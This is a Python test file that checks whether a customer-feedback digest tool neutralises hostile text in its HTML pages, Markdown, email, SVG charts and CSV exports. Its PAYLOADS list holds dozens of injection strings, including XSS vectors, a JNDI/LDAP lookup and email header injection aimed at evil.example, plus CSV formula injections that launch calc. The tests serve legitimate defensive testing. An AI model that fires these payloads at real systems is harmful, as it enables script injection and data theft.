"""Whatever a customer types, it arrives as words and as nothing else."""

from __future__ import annotations

import csv
import html
import io
import re
import unicodedata
import xml.etree.ElementTree as ElementTree
from dataclasses import replace
from email import message_from_bytes, policy
from html.parser import HTMLParser

import pytest
from digest_example import LAST_DAY, one, publish_said
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from vocanalytics.digest.alerts import Alert, Alerts
from vocanalytics.digest.changes import Change
from vocanalytics.digest.charts import driver_map, journey_map
from vocanalytics.digest.drivers import Driver, Drivers, Standing
from vocanalytics.digest.events import Event
from vocanalytics.digest.groups import Group
from vocanalytics.digest.inert import for_markdown, visible
from vocanalytics.digest.journey import Stop
from vocanalytics.digest.ledger import ledger
from vocanalytics.digest.mail import as_mail
from vocanalytics.digest.moving import Moved
from vocanalytics.digest.origin import Origin
from vocanalytics.digest.page import Page, Weighed
from vocanalytics.digest.pages import page_of
from vocanalytics.digest.quotes import Quote
from vocanalytics.digest.reading import Publication, read_published
from vocanalytics.digest.render import html_page, markdown_page, plain_page
from vocanalytics.digest.signs import EarlySign
from vocanalytics.digest.spikes import Spike
from vocanalytics.digest.summary import Sentence
from vocanalytics.resources import resolve_taxonomy
from vocanalytics.steps.digest import write_digests
from vocanalytics.taxonomy import load_taxonomy
from vocanalytics.warehouse.reading import read

PAYLOADS = (
    "<script>alert(1)</script>",
    "</style></head><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "</bdi></p></blockquote><h1>owned</h1>",
    "<iframe src='https://evil.example'></iframe>",
    "<a href='javascript:alert(1)'>click</a>",
    "<!-- comment --><style>*{display:none}</style>",
    "{{ 7 * 7 }} {% raw %} {# gone #}",
    "${jndi:ldap://evil.example/a}",
    "&lt;script&gt;&#60;b&#62;&amp;",
    "[click](https://evil.example) ![x](https://evil.example/x.png)",
    "visit https://evil.example or www.evil.example or mailto:a@evil.example",
    "<https://evil.example>",
    "# heading\n## another\n---\n===",
    "- item\n1. one\n> quote\n```\ncode\n```",
    "| a | b |\n| --- | --- |\n| c | d |",
    "*bold* _it_ ~~gone~~ `code` \\* \\",
    "[ref]: https://evil.example",
    "=HYPERLINK(\"https://evil.example\";\"x\")",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "safe\u202egnp.exe\u202c and \u2066\u2067x\u2069",
    "zero\u200bwidth\u2060\ufeff and soft\u00adhyphen",
    "nul\x00 bell\x07 escape\x1b[31m del\x7f c1\x9b",
    "line\u2028and\u2029paragraph\r\nbreak",
    "Z" + "\u0301" * 200,
    "Subject: x\r\nBcc: a@evil.example",
    "tag characters \U000e0041\U000e007f",
    "שלום <b>مرحبا</b> 👩‍👩‍👧 ❤️",
    "w" * 290,
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<body onload=alert(1)>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<svg><style>@import 'https://evil.example'</style></svg>",
    "<link rel=stylesheet href=https://evil.example>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><input name=q><button>go</button></form>",
    "<object data=https://evil.example></object><embed src=x>",
    "<video><source onerror=alert(1)></video>",
    "<details open ontoggle=alert(1)>",
    "</summary></details></section></main>",
    "</td></tr></table><table><tr><td>",
    "]]></desc></title></svg><script>alert(1)</script>",
    "' onmouseover='alert(1)",
    "` onfocus=`alert(1)",
    "&#x3C;img src=x onerror=alert(1)&#x3E;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003e",
    "<\x00script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "expression(alert(1)); background: url(https://evil.example)",
    "}} {{ page.__class__.__mro__ }}",
    "<% 7 * 7 %> #{7*7} @(7*7)",
    "![](javascript:alert(1))",
    "[x](<javascript:alert(1)> \"t\")",
    "<details><summary>x</summary>y</details> <br/> <!--",
    "| --- |\n| =1+1 |",
    "***\n___\n---",
    "    indented code\n\ttab code",
    "~~~html\n<b>\n~~~",
    "\\[x\\] $x^2$ \\(y\\)",
    ":smile: @channel <!channel> #general",
    "=cmd|'/C calc'!A0",
    "\t=1+1",
    "\r\n=1+1",
    "|calc",
    "%0A=1+1",
    "\u200e\u200f\u061c\u202a\u202b\u202d evil",
    "\u2062\u2063\u2064 invisible operators",
    "\ufff9\ufffa\ufffb\ufffc annotation",
    "\x85\x0b\x0c\x1c\x1d\x1e",
    "\ue000\uf8ff private use",
    "=?utf-8?B?PHNjcmlwdD4=?=",
    "--digest-0-000000000000000000000000--",
    "Content-Type: text/html\r\n\r\n<script>",
    "rant " * 1000,
)  # fmt: skip
OURS = {
    "html", "head", "meta", "title", "style", "body", "header", "main", "section", "nav", "footer", "p", "h1", "h2",
    "h3", "img", "code", "b", "ul", "ol", "li", "span", "strong", "div", "figure", "figcaption", "blockquote", "bdi",
    "details", "summary", "table", "caption", "thead", "tbody", "tr", "th", "td", "dl", "dt", "dd", "a", "i", "br",
    "svg", "desc", "g", "path", "rect", "text", "tspan", "line",
}  # fmt: skip


class Reader(HTMLParser):
    """The tags, attributes and text a browser would see."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: set[str] = set()
        self.text: list[str] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes |= {name for name, _ in attrs}

    def handle_data(self, data):
        self.text.append(data)


@pytest.fixture(scope="module")
def page(tmp_path_factory) -> Page:
    folder = tmp_path_factory.mktemp("plain")
    said = [one(f"They kept me waiting for {n} hours.", "service_visit", "waiting_time") for n in range(6)]
    said += [one(f"Friendly people number {n} here.", "service_visit", "staff_attitude", "positive") for n in range(6)]
    tables = publish_said(folder, said).settings.published / "current" / "insights.duckdb"
    published = read_published(lambda sql, values: read(tables, sql, values), Publication("p1", "2026-06-28", 30, 5))
    return page_of(published, load_taxonomy(resolve_taxonomy("automotive")))


def with_words(page: Page, words: str) -> Page:
    """The page with these words wherever a customer, a feed or a taxonomy may put some."""
    quote = replace(page.pain_points[0].quotes[0], text=words, source=words)
    pain = replace(
        page.pain_points[0], theme=words, touchpoint=words, owner=words, notes=[words], quotes=[quote], change=words
    )
    change = Change(words, "worse", "new", words, words, words, "▲", [words], [quote], Origin("spikes", words))
    alert = Alerts([Alert(words, words, words, words)], words, words)
    ranked = Drivers(words, words, [Driver(1, words, words, words, words, words, None)], "", words, 5.0)
    # drawn of words of theirs elsewhere; here the map stands for it
    driven = [Weighed(group, "drivers-1", page.maps["wide"]) for group in (ranked, replace(ranked, note=words))]
    here = Origin("spikes", words)
    sign = EarlySign(words, words, words, words, words, words, words, [quote], here)
    praise = replace(page.praise[0], theme=words, touchpoint=words, owner=words, quotes=[quote])
    source = replace(page.sources[0], source=words, languages=words, channel=words)
    return replace(
        page, title=words, period=words, bases=words, in_short=[Sentence(words, (here,))], pain_points=[pain],
        praise=[praise], sources=[source], caveats=[words], footer=[(words, words)], owners={words: "team.html"},
        alerts=alert, changes=[change], early_signs=[sign], moved=[Moved("all", *[words] * 7, here)], drivers=driven,
        groups=[Group(*[words] * 6, here)], spikes=[Spike(words, words, words, words, True)],
        events=[Event(1, words, words, words, words, LAST_DAY, (), ())], queries=[(words, words)],
    )  # fmt: skip


def of_team(page: Page, words: str) -> Page:
    """The same as a team gets it, with the words for its name."""
    return replace(with_words(page, words), owner=words, owners={}, drivers=[], maps={}, lines=[], series=[])


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_what_a_team_gets_holds_no_markup_of_theirs(page, payload):
    harmless, hostile = (of_team(page, words) for words in ("harmless", payload))
    assert tags_in_markdown(markdown_page(hostile)) == tags_in_markdown(markdown_page(harmless))
    for in_mail in (False, True):
        shown, expected = (Reader(html_page(one, in_mail=in_mail)) for one in (hostile, harmless))
        assert (shown.tags, shown.attributes) == (expected.tags, expected.attributes)
    raw = as_mail(hostile.title, plain_page(hostile), html_page(hostile, in_mail=True), html_page(hostile), {})
    mail = message_from_bytes(raw, policy=policy.default)
    assert set(mail.keys()) == {"Subject", "X-Unsent", "MIME-Version", "Content-Type"}
    assert not hidden(mail["Subject"])


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
@pytest.mark.parametrize("in_mail", [False, True], ids=["page", "mail"])
def test_html_holds_the_words_and_no_tag_of_theirs(page, payload, in_mail):
    harmless, hostile = (Reader(html_page(with_words(page, w), in_mail=in_mail)) for w in ("harmless", payload))
    assert hostile.tags == harmless.tags
    assert hostile.attributes == harmless.attributes
    assert set(hostile.tags) <= OURS
    assert visible(payload) in "".join(hostile.text)
    assert not hidden("".join(hostile.text).replace("\n", ""))


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_markdown_holds_the_words_and_no_markup_of_theirs(page, payload):
    harmless, hostile = (tags_in_markdown(markdown_page(with_words(page, w))) for w in ("harmless", payload))
    assert hostile == harmless


def tags_in_markdown(text: str) -> list[str]:
    return Reader(MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(text)).tags


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_mail_keeps_its_headers(page, payload):
    hostile = with_words(page, payload)
    raw = as_mail(
        hostile.title,
        plain_page(hostile),
        html_page(hostile, in_mail=True),
        html_page(hostile),
        {"journey-map": b"png"},
    )
    mail = message_from_bytes(raw, policy=policy.default)
    assert set(mail.keys()) == {"Subject", "X-Unsent", "MIME-Version", "Content-Type"}
    assert not hidden(mail["Subject"])
    assert len(list(mail.walk())) == 7


def test_pictures_stay_well_formed_and_hold_no_tag_of_theirs():
    stops = [Stop(f"{payload} {n % 4}", payload, -50.0, 40, -70.0, -20.0) for n, payload in enumerate(PAYLOADS)]
    at = Standing(20.0, 12.0, 30.0, -50.0, -70.0, -20.0)
    lines = [Driver(n, payload, payload, payload, payload, payload, at) for n, payload in enumerate(PAYLOADS)]
    weighed = driver_map(Drivers(PAYLOADS[0], PAYLOADS[1], lines, "", "", 5.0))
    assert weighed is not None
    for drawn in (*(journey_map(stops, shape) for shape in ("wide", "middle", "narrow")), weighed):
        picture = ElementTree.fromstring(drawn.svg)
        assert {element.tag.rpartition("}")[2] for element in picture.iter()} <= OURS
        assert "javascript" not in " ".join(value for e in picture.iter() for value in e.attrib.values())


def test_verbatims_come_through_the_whole_way(tmp_path):
    cells = ("waiting_time", "kept_informed", "resolution", "ease", "fees", "honesty", "safety", "design")
    # the store never holds what UTF-8 databases cannot
    texts = [payload.replace("\x00", "") for payload in PAYLOADS if len(payload) < 200]
    said = [one(text, "service_visit", cells[n % len(cells)]) for n, text in enumerate(texts)]
    paths = write_digests(publish_said(tmp_path, said))
    company = paths[-1].read_text(encoding="utf-8")
    quoted = [html.unescape(quote) for quote in re.findall(r"“<bdi>(.*?)</bdi>”", company, re.DOTALL)]
    assert len(quoted) == 24
    assert set(quoted) <= {visible(text) for text in texts}
    assert set(Reader(company).tags) <= OURS


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_no_cell_of_a_csv_is_a_formula(payload):
    quote = Quote("i1", 0, 4, "text", payload, "1 June 2026", False, False)
    item = {"verbatim": payload, "source": payload, "submitted_on": LAST_DAY}
    written = ledger({payload: [quote]}, {"i1": item}, lambda text: "f" * 32).decode()
    head, row = csv.reader(io.StringIO(written, newline=""))
    assert len(head) == len(row)
    assert row[0] in (visible(payload), f"'{visible(payload)}")
    assert not any(cell.lstrip().startswith(("=", "+", "-", "@", "|", "%")) for cell in row)
    assert not hidden(written.replace("\n", ""))


def test_there_are_enough_kinds_of_harm():
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 60


def hidden(text: str) -> list[str]:
    kept = "\u200c\u200d\ufe0f"
    return [c for c in text if unicodedata.category(c) in ("Cc", "Cf", "Co", "Cn", "Zl", "Zp") and c not in kept]


@given(st.text())
def test_nothing_hidden_is_left(text):
    assert not hidden(visible(text))


@given(st.text(st.characters(codec="utf-8")))
def test_markdown_gives_back_the_words(text):
    shown = Reader(
        MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(for_markdown(text))
    )
    assert " ".join("".join(shown.text).split()) == " ".join(visible(text).split())
    assert set(shown.tags) <= {"p", "pre", "code"}
